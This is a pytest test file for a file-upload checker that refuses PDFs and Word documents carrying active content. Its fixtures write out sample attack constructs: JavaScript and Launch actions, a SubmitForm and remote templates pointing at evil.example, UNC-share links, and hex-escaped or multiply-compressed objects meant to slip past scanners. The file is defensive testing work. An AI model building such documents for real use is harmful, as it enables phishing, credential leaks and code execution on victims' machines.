"""File types: a PDF or DOCX that would run something when staff open it is refused with a reason;
plain documents, links included, are accepted."""

from __future__ import annotations

import random
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.storage import UploadRejected
from portal.storage.filetypes import FILE_TYPES, FileType, allowed_text, register, type_for
from tests.storage.documents import MACRO_MAIN, docx, pdf, relationship

JS_ACTION = b"<</S/JavaScript/JS(app.alert(1))>>"


def verdict(kind: str, content: bytes, tmp_path) -> str:
    """'accepted', or the refusal message."""
    path = tmp_path / f"upload.{kind}"
    path.write_bytes(content)
    try:
        FILE_TYPES[kind].inspect(path)
    except UploadRejected as exc:
        return str(exc)
    return "accepted"


@pytest.mark.parametrize(
    "content",
    [
        pdf(),
        pdf(compress_content=False),
        pdf("Ada Lovelace, engineer"),
        # What LaTeX and Word write: a destination to open at, links to the web, an outline.
        pdf(catalog=b"/OpenAction[3 0 R/Fit]/PageMode/UseOutlines"),
        pdf(
            page=b"/Annots[5 0 R]",
            extra=[b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://github.com/ada)>>>>"],
        ),
        pdf(object_stream=[b"<</Title(Curriculum vitae)/Producer(pdfTeX-1.40.25)>>"]),
    ],
    ids=["compressed", "uncompressed", "text", "open-at-destination", "web-link", "object-stream"],
)
def test_plain_pdfs_are_accepted(tmp_path, content):
    assert verdict("pdf", content, tmp_path) == "accepted"


@pytest.mark.parametrize(
    "content, says",
    [
        (pdf(catalog=b"/OpenAction" + JS_ACTION), "scripts"),
        (pdf(catalog=b"/Names<</JavaScript<</Names[(init)" + JS_ACTION + b"]>>>>"), "scripts"),
        (pdf(extra=[b"<</Type/Action/JS(app.alert(1))>>"]), "scripts"),
        (pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "starts a program"),
        (
            pdf(
                catalog=b"/Names<</EmbeddedFiles 5 0 R>>",
                extra=[b"<</Type/EmbeddedFile/Length 4>>\nstream\nMZ\x90\x00\nendstream"],
            ),
            "attached files",
        ),
        (pdf(page=b"/Annots[5 0 R]", extra=[b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>"]), "embedded media"),
        (pdf(page=b"/AA<</O<</S/URI/URI(https://tracker.example/open)>>>>"), "run automatically"),
        (pdf(catalog=b"/AcroForm<</Fields[]/XFA 5 0 R>>", extra=[b"<</Length 0>>\nstream\n\nendstream"]), "XFA"),
        (pdf(catalog=b"/OpenAction<</S/SubmitForm/F(https://evil.example)>>"), "sends data"),
        (pdf(catalog=b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>"), "open other files"),
    ],
    ids=[
        "openaction-javascript",
        "names-javascript",
        "js",
        "launch",
        "embedded-file",
        "richmedia",
        "aa",
        "xfa",
        "submitform",
        "gotor",
    ],
)
def test_pdf_with_active_content_is_refused_saying_what_it_contains(tmp_path, content, says):
    message = verdict("pdf", content, tmp_path)
    assert says in message and "Export or print it to a new PDF" in message


def test_pdf_names_are_recognised_when_hex_escaped(tmp_path):
    content = pdf(catalog=b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>")
    assert "scripts" in verdict("pdf", content, tmp_path)
    assert "starts a program" in verdict("pdf", pdf(catalog=b"/OpenAction<</S/#4C#61#75#6e#63#68/F(x)>>"), tmp_path)


def test_pdf_script_inside_a_compressed_object_stream_is_refused(tmp_path):
    content = pdf(catalog=b"/OpenAction 6 0 R", object_stream=[JS_ACTION])
    assert JS_ACTION not in content  # only compressed: a scan of the raw bytes would not see it
    assert "scripts" in verdict("pdf", content, tmp_path)


def test_pdf_script_compressed_twice_is_refused(tmp_path):
    inner = zlib.compress(zlib.compress(b"6 0 " + JS_ACTION))
    content = pdf(
        catalog=b"/OpenAction 6 0 R",
        extra=[
            b"<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>\nstream\n" % len(inner)
            + inner
            + b"\nendstream"
        ],
    )
    assert "scripts" in verdict("pdf", content, tmp_path)


@pytest.mark.parametrize("layers", [3, 4, 6])
def test_pdf_script_compressed_many_times_over_is_refused(tmp_path, layers):
    # A reader inflates every layer; three are inflated and read, more cannot be checked and are refused.
    inner = b"6 0 " + JS_ACTION
    for _ in range(layers):
        inner = zlib.compress(inner)
    content = pdf(
        catalog=b"/OpenAction 6 0 R",
        extra=[
            b"<</Type/ObjStm/N 1/First 4/Filter[%s]/Length %d>>\nstream\n" % (b"/FlateDecode" * layers, len(inner))
            + inner
            + b"\nendstream"
        ],
    )
    message = verdict("pdf", content, tmp_path)
    assert ("scripts" in message) if layers == 3 else ("cannot be checked for scripts" in message)


def test_pdf_whose_objects_hide_behind_an_unchecked_encoding_or_encryption_is_refused(tmp_path):
    hexed = (b"6 0 " + JS_ACTION).hex().encode() + b">"
    content = pdf(
        extra=[
            b"<</Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode/Length %d>>\nstream\n" % len(hexed)
            + hexed
            + b"\nendstream"
        ]
    )
    assert "cannot be checked" in verdict("pdf", content, tmp_path)
    encrypted = pdf(catalog=b"/Encrypt 5 0 R", extra=[b"<</Filter/Standard/V 2/R 3/Length 128>>"])
    assert "password-protected or encrypted" in verdict("pdf", encrypted, tmp_path)


def test_short_names_inside_image_data_do_not_refuse_a_pdf(tmp_path):
    # JPEG bytes are random-looking; "/JS " or "/AA>" turn up in them by chance and mean nothing there.
    noise = bytearray(random.Random(7).randbytes(64 * 1024))
    for at, name in ((1000, b"/JS "), (20000, b"/AA>"), (40000, b"/RL]")):
        noise[at : at + len(name)] = name
    image = (
        b"<</Type/XObject/Subtype/Image/Width 64/Height 64/Filter/DCTDecode/Length %d>>\nstream\n" % len(noise)
        + bytes(noise)
        + b"\nendstream"
    )
    assert verdict("pdf", pdf(extra=[image]), tmp_path) == "accepted"


def test_a_pdf_that_inflates_beyond_the_bound_is_refused_not_half_read(tmp_path, monkeypatch):
    from portal.storage import pdf as pdf_checks

    monkeypatch.setattr(pdf_checks, "MAX_INFLATED", 1024 * 1024)
    zeros = zlib.compress(b"0" * (2 * 1024 * 1024))
    content = pdf(extra=[b"<</Length %d/Filter/FlateDecode>>\nstream\n" % len(zeros) + zeros + b"\nendstream"])
    assert "too large or complex to check" in verdict("pdf", content, tmp_path)


@pytest.mark.parametrize(
    "content",
    [
        docx(),
        docx(
            "Ada Lovelace",
            relationships=[
                relationship("rId7", "hyperlink", "https://www.linkedin.com/in/ada", external=True),
                relationship("rId8", "hyperlink", "mailto:ada@example.com", external=True),
                relationship("rId9", "styles", "styles.xml"),
            ],
        ),
    ],
    ids=["plain", "web-and-mail-links"],
)
def test_plain_docx_is_accepted(tmp_path, content):
    assert verdict("docx", content, tmp_path) == "accepted"


@pytest.mark.parametrize(
    "content, says",
    [
        (docx(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), "macros"),
        (docx(main=MACRO_MAIN), "macros"),
        (docx(parts={"word/vbaData.xml": b"<wne:vbaSuppData/>"}), "macros"),
        (
            docx(
                settings_relationships=[
                    relationship("rId1", "attachedTemplate", "https://evil.example/t.dotm", external=True)
                ]
            ),
            "loads content from elsewhere",
        ),
        (
            docx(
                settings_relationships=[
                    relationship("rId1", "attachedTemplate", "\\\\evil.example\\share\\t.dotm", external=True)
                ]
            ),
            "loads content from elsewhere",
        ),
        (
            docx(relationships=[relationship("rId5", "image", "http://tracker.example/p.png", external=True)]),
            "loads content from elsewhere",
        ),
        (
            docx(
                relationships=[relationship("rId5", "hyperlink", "file:///C:/Windows/System32/calc.exe", external=True)]
            ),
            "network share",
        ),
        (
            docx(relationships=[relationship("rId5", "hyperlink", "\\\\evil.example\\share\\cv.docx", external=True)]),
            "network share",
        ),
        (
            docx(
                relationships=[relationship("rId5", "oleObject", "embeddings/oleObject1.bin")],
                parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
            ),
            "ActiveX or OLE",
        ),
        (docx(parts={"word/activeX/activeX1.xml": b"<ax:ocx/>"}), "ActiveX or OLE"),
    ],
    ids=[
        "vbaproject",
        "macro-content-type",
        "vbadata",
        "remote-template",
        "unc-template",
        "remote-image",
        "file-link",
        "unc-link",
        "ole-object",
        "activex",
    ],
)
def test_docx_with_active_content_is_refused_saying_what_it_contains(tmp_path, content, says):
    assert says in verdict("docx", content, tmp_path)


def test_docx_relationships_are_read_as_xml_not_as_text(tmp_path):
    # "&#69;xternal" is "External" to Word; a text search for the word would miss it.
    rel = (
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="&#69;xternal"/>'
    )
    assert "loads content from elsewhere" in verdict("docx", docx(settings_relationships=[rel]), tmp_path)
    doctype = docx(parts={"word/_rels/footer.xml.rels": b'<!DOCTYPE r [<!ENTITY x "y">]><Relationships/>'})
    assert "not a Word (.docx) document" in verdict("docx", doctype, tmp_path)


def test_a_type_is_chosen_by_extension_among_those_the_upload_kind_allows():
    assert type_for("CV.PDF", ("pdf", "docx")).name == "pdf"
    assert type_for("C:\\Users\\me\\cv.docx", ("pdf", "docx")).name == "docx"
    for name in ("cv.doc", "cv.pdf.exe", "cv", "", "../cv.sh", "cv.docm"):
        with pytest.raises(UploadRejected, match=r"^Upload a PDF or Word \(\.docx\) file\.$"):
            type_for(name, ("pdf", "docx"))
    with pytest.raises(UploadRejected, match=r"^Upload a PDF file\.$"):
        type_for("cv.docx", ("pdf",))


def test_a_capability_registers_a_new_type_without_touching_the_others(tmp_path):
    def refuse_tabs(path):
        if b"\t" in path.read_bytes():
            raise UploadRejected("Use spaces.")

    register(
        FileType(
            name="test-text",
            label="text",
            extensions=(".txt",),
            content_types=("text/plain",),
            check_structure=lambda path: None,
            check_active_content=refuse_tabs,
        )
    )
    try:
        assert type_for("notes.txt", ("pdf", "test-text")).content_type == "text/plain"
        assert allowed_text(("pdf", "docx", "test-text")) == "PDF, Word (.docx) or text"
        assert verdict("test-text", b"a\tb", tmp_path) == "Use spaces."
        assert verdict("pdf", pdf(), tmp_path) == "accepted"
    finally:
        FILE_TYPES.pop("test-text")


# Generated documents: the verdict must follow from what was put in, whatever else is around it.

WORDS = st.text(alphabet="abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.,", max_size=40)
PDF_BENIGN = [
    b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.com/%s)>>>>",
    b"<</Title(%s)/Producer(LibreOffice)/Creator(Writer)>>",
    b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding/Name(%s)>>",
    b"<</Type/OutlineItem/Title(%s)/Dest[3 0 R/XYZ 0 792 0]>>",
]
PDF_ACTIVE = [
    (b"<</Type/Action/S/{JavaScript}/{JS}(app.alert(1))>>", "scripts"),
    (b"<</Type/Action/S/{Launch}/F(calc.exe)>>", "starts a program"),
    (b"<</Type/Filespec/EF<</F 3 0 R>>/Type/{EmbeddedFile}>>", "attached files"),
    (b"<</Type/Annot/Subtype/{RichMedia}/Rect[0 0 1 1]>>", "embedded media"),
    (b"<</Type/Page/{AA}<</O<</S/URI/URI(https://example.com)>>>>>>", "run automatically"),
    (b"<</Type/Action/S/{ImportData}/F(data.fdf)>>", "loads data"),
    (b"<</Type/Action/S/{GoToE}/T<</R/C/N(x)>>>>", "open attached files"),
]


@st.composite
def escaped_name(draw, name: str) -> bytes:
    flags = draw(st.lists(st.booleans(), min_size=len(name), max_size=len(name)))
    return "".join(f"#{ord(c):02X}" if escape else c for c, escape in zip(name, flags)).encode()


@st.composite
def generated_pdf(draw):
    objects = [template % draw(WORDS).encode() for template in draw(st.lists(st.sampled_from(PDF_BENIGN), max_size=4))]
    active = draw(st.none() | st.sampled_from(PDF_ACTIVE))
    says = None
    if active is not None:
        template, says = active
        names = {}
        for part in template.split(b"{")[1:]:
            name = part.split(b"}")[0].decode()
            names[name] = draw(escaped_name(name))
        for name, escaped in names.items():
            template = template.replace(b"{" + name.encode() + b"}", escaped)
        objects.insert(draw(st.integers(0, len(objects))), template)
    in_stream = draw(st.booleans())
    content = pdf(
        draw(WORDS),
        compress_content=draw(st.booleans()),
        extra=[] if in_stream else objects,
        object_stream=objects if in_stream else [],
    )
    return content, says


@settings(max_examples=150, deadline=None)
@given(case=generated_pdf())
def test_generated_pdfs_are_refused_exactly_when_they_carry_active_content(tmp_path_factory, case):
    content, says = case
    result = verdict("pdf", content, tmp_path_factory.mktemp("pdf"))
    if says is None:
        assert result == "accepted"
    else:
        assert says in result


DOCX_ACTIVE = [
    (dict(parts={"word/vbaProject.bin": b"x"}), "macros"),
    (dict(main=MACRO_MAIN), "macros"),
    (
        dict(settings_relationships=[relationship("rId1", "attachedTemplate", "https://t.example/a.dotm", True)]),
        "loads content from elsewhere",
    ),
    (
        dict(relationships=[relationship("rId90", "image", "https://t.example/p.png", True)]),
        "loads content from elsewhere",
    ),
    (dict(relationships=[relationship("rId90", "hyperlink", "file://server/share/x", True)]), "network share"),
    (dict(relationships=[relationship("rId90", "oleObject", "embeddings/oleObject1.bin")]), "ActiveX or OLE"),
]


@st.composite
def generated_docx(draw):
    links = [
        relationship(f"rId{index}", "hyperlink", f"https://example.com/{index}", external=True)
        for index in range(draw(st.integers(0, 3)))
    ]
    active = draw(st.none() | st.sampled_from(DOCX_ACTIVE))
    options, says = active if active is not None else ({}, None)
    options = dict(options)
    options["relationships"] = links + options.get("relationships", [])
    return docx(draw(WORDS), **options), says


@settings(max_examples=100, deadline=None)
@given(case=generated_docx())
def test_generated_docx_are_refused_exactly_when_they_carry_active_content(tmp_path_factory, case):
    content, says = case
    result = verdict("docx", content, tmp_path_factory.mktemp("docx"))
    if says is None:
        assert result == "accepted"
    else:
        assert says in result


def test_a_cv_whose_text_mentions_html_js_is_accepted(tmp_path):
    """Running text like "HTML/JS/CSS" or "Node/JS developer" is not a script key."""
    content = b"BT /F1 12 Tf (Skills: HTML/JS/CSS, Node/JS developer) Tj ET"
    body = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Length "
        + str(len(content)).encode()
        + b">>stream\n"
        + content
        + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )
    path = tmp_path / "cv.pdf"
    path.write_bytes(body)
    FILE_TYPES["pdf"].check_structure(path)
    FILE_TYPES["pdf"].check_active_content(path)  # accepted: no refusal raised


@pytest.mark.parametrize(
    "link", [b"https://example.com/A85", b"https://github.com/ada/RL", b"https://x.example/AHx/LZW"], ids=str
)
def test_a_web_address_that_reads_like_a_filter_abbreviation_is_accepted(tmp_path, link):
    content = pdf(
        page=b"/Annots[5 0 R]", extra=[b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(" + link + b")>>>>"]
    )
    assert verdict("pdf", content, tmp_path) == "accepted"


@pytest.mark.parametrize(
    "filters",
    [
        b"/Filter/A85",
        b"/Filter [/FlateDecode /AHx]",
        b"/Fi#6cter/RL",
        b"/Filter %a comment\n/LZW",
        b"/Title(%)/Filter/A85",
        b"/F/A85",
    ],
    ids=["plain", "array", "escaped-key", "comment", "percent-in-string", "inline-key"],
)
def test_a_filter_abbreviation_where_a_filter_is_named_is_refused(tmp_path, filters):
    content = pdf(extra=[b"<</Type/ObjStm/N 1/First 4" + filters + b"/Length 4>>\nstream\nabcd\nendstream"])
    assert "cannot be checked" in verdict("pdf", content, tmp_path)


def test_a_filter_array_kept_as_an_object_of_its_own_is_refused(tmp_path):
    content = pdf(extra=[b"<</Type/ObjStm/N 1/First 4/Filter 6 0 R/Length 4>>\nstream\nabcd\nendstream", b"[/A85]"])
    assert "cannot be checked" in verdict("pdf", content, tmp_path)
